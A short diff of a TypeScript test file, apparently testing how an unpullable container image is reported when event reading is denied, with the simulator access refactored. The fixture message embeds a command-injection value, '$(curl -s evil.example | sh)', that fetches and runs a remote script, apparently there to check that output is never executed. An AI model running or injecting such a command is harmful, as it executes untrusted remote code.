@@ -64,9 +64,10 @@ describe('an image that cannot be pulled', () => {
   });
 
   test('is the output, whatever its registry calls it, where events may not be read', async ({ skip }) => {
-    if (stage.kind !== 'simulator') return skip();
-    stage.simulator.api.deny('watch', 'events');
-    stage.simulator.api.deny('list', 'events');
+    const { simulator } = stage;
+    if (simulator === undefined) return skip();
+    simulator.api.deny('watch', 'events');
+    simulator.api.deny('list', 'events');
     const message = 'Back-off pulling image "$(curl -s evil.example | sh)"';
     const registry = createServer((_, answer) => {
       answer.writeHead(403, { 'Content-Type': 'application/json' });
